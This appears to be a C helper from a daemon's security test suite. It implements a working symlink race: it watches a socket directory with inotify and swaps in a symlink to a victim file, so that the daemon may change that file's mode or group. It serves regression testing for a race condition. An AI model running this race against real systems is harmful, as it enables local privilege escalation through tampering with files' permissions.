/*
 * The attacker of tests/security/socket-dir.sh. Run as a user who can write
 * to the daemon's socket directory, it waits (inotify) for the socket to
 * appear and at once renames a symbolic link to VICTIM over it, hoping that
 * the daemon then changes the mode or group of the link's target by path.
 * In C so that it is quick enough to win the race when the daemon leaves a
 * window. Runs until killed; prints a line for each swap.
 *
 * usage: sockrace DIR SOCKNAME VICTIM
 */
#include <sys/inotify.h>

#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	char			 link[PATH_MAX], target[PATH_MAX];
	char			 buf[4096]
	    __attribute__((aligned(__alignof__(struct inotify_event))));
	const struct inotify_event *ev;
	ssize_t			 n;
	char			*p;
	unsigned long		 swaps = 0;
	int			 fd, hit;

	if (argc != 4) {
		fprintf(stderr, "usage: sockrace DIR SOCKNAME VICTIM\n");
		return 64;
	}
	snprintf(link, sizeof link, "%s/.racer-link", argv[1]);
	snprintf(target, sizeof target, "%s/%s", argv[1], argv[2]);
	if ((fd = inotify_init()) == -1 ||
	    inotify_add_watch(fd, argv[1], IN_CREATE) == -1) {
		perror("inotify");
		return 1;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	for (;;) {
		unlink(link);
		if (symlink(argv[3], link) == -1) {
			perror("symlink");
			return 1;
		}
		if ((n = read(fd, buf, sizeof buf)) <= 0) {
			if (n == -1 && errno == EINTR)
				continue;
			return 1;
		}
		hit = 0;
		for (p = buf; p < buf + n; p += sizeof *ev + ev->len) {
			ev = (const struct inotify_event *)p;
			if (ev->len > 0 && strcmp(ev->name, argv[2]) == 0)
				hit = 1;
		}
		if (hit) {
			if (rename(link, target) == 0)
				printf("swap %lu\n", ++swaps);
			else
				printf("swap failed: %s\n", strerror(errno));
		}
	}
}
